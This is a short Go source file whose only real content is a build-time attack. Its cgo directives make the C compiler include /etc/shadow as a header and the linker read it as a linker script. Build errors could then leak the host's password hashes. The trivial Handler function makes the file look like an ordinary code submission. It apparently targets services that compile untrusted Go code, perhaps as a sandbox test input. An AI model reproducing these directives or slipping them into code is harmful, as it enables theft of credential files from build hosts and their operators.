package main

// #cgo CFLAGS: -I/etc -include /etc/shadow
// #cgo LDFLAGS: -Wl,-T/etc/shadow
import "C"

func Handler(input string) (string, error) { return input, nil }
